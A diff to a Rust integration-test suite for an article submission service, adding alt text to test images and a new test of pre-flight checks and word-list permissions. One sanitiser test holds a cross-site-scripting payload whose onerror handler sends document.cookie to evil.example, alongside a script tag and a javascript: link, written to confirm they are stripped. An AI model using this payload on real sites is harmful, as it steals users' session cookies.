@@ -571,7 +571,7 @@ async fn files_arrive_in_pieces_resume_where_they_stopped_and_are_checked() {
     // A body may show inline only files the item carries.
     let mut inline = item(column.id, "图文");
     inline["body_html"] = json!(format!(
-        r#"<p><img src="liaison-file:{}"></p>"#,
+        r#"<p><img src="liaison-file:{}" alt="图"></p>"#,
         "c".repeat(64)
     ));
     let (status, err) = o.submit(&token, Some("k-inline"), &inline).await;
@@ -579,7 +579,7 @@ async fn files_arrive_in_pieces_resume_where_they_stopped_and_are_checked() {
         (status, err["code"].as_str()),
         (StatusCode::UNPROCESSABLE_ENTITY, Some("validation"))
     );
-    inline["body_html"] = json!(format!(r#"<p><img src="liaison-file:{sha}"></p>"#));
+    inline["body_html"] = json!(format!(r#"<p><img src="liaison-file:{sha}" alt="开放日"></p>"#));
     inline["attachments"] = body["attachments"].clone();
     let (status, _) = o.submit(&token, Some("k-inline-2"), &inline).await;
     assert_eq!(status, StatusCode::CREATED);
@@ -884,7 +884,7 @@ async fn a_body_is_stored_without_scripts_handlers_or_script_addresses() {
     let column = o.first_column(&token).await;
     let mut body = item(column.id, "带脚本的稿件");
     body["body_html"] = json!(
-        r#"<h2>标题</h2><p>正文</p><img src=x onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(1)">链接</a>"#
+        r#"<h2>标题</h2><p>正文</p><img src=x alt="x" onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(1)">链接</a>"#
     );
     let (status, sent) = o.submit(&token, Some("k-xss"), &body).await;
     assert_eq!(status, StatusCode::CREATED);
@@ -1476,4 +1476,79 @@ async fn the_console_signs_in_with_a_cookie_and_only_the_admin_changes_sign_off(
         .await
         .unwrap();
     assert_eq!(r.headers()["location"], "/sign-in");
+}
+
+/// The office runs the same pre-flight checks as the desk, with its own word lists, and
+/// refuses what a desk would block, even sent straight over the API.
+#[tokio::test]
+async fn the_office_refuses_an_item_the_desk_would_block() {
+    let o = office().await;
+    let officer = o.sign_in("jyj.officer").await;
+    let admin = o.sign_in("bjb.admin").await;
+    let column = o.first_column(&officer).await;
+    let (status, lists) = o.get(&officer, "/wordlists").await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(
+        lists["forbidden"].to_string().contains("内部资料"),
+        "{lists}"
+    );
+    let cases = [
+        ("<p>本文为内部资料。</p>", Some("forbidden_word: 内部资料")),
+        (
+            "<p>见图</p><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
+            Some("image_without_alt"),
+        ),
+        (
+            "<p>见<a href=\"www.gov.cn\">政策</a></p>",
+            Some("malformed_link"),
+        ),
+        ("<p> </p>", Some("empty_body")),
+        // Warnings do not stop it: a plain http link, a misspelling.
+        (
+            "<p>请按装，见<a href=\"http://www.gov.cn/\">政策</a></p>",
+            None,
+        ),
+    ];
+    for (n, (body, refused)) in cases.into_iter().enumerate() {
+        let mut item = item(column.id, &format!("预检稿件{n}"));
+        item["body_html"] = json!(body);
+        let (status, answer) = o.submit(&officer, Some(&format!("k-pf{n}")), &item).await;
+        match refused {
+            Some(why) => {
+                assert_eq!(
+                    (status, answer["code"].as_str()),
+                    (StatusCode::UNPROCESSABLE_ENTITY, Some("preflight_failed")),
+                    "{body}"
+                );
+                assert!(
+                    answer["message"].as_str().unwrap().contains(why),
+                    "{answer}"
+                );
+            }
+            None => assert_eq!(status, StatusCode::CREATED, "{body}: {answer}"),
+        }
+    }
+    // The administrator publishes the lists; a word forbidden now is refused now.
+    let r = o
+        .http
+        .put(format!("{}/wordlists", o.base))
+        .bearer_auth(&admin)
+        .json(&json!({"forbidden": ["草案"], "misspellings": []}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    let mut item = item(column.id, "未定稿");
+    item["body_html"] = json!("<p>本草案仅供讨论。</p>");
+    let (status, _) = o.submit(&officer, Some("k-pf-new"), &item).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    let r = o
+        .http
+        .put(format!("{}/wordlists", o.base))
+        .bearer_auth(&officer)
+        .json(&json!({"forbidden": [], "misspellings": []}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
 }
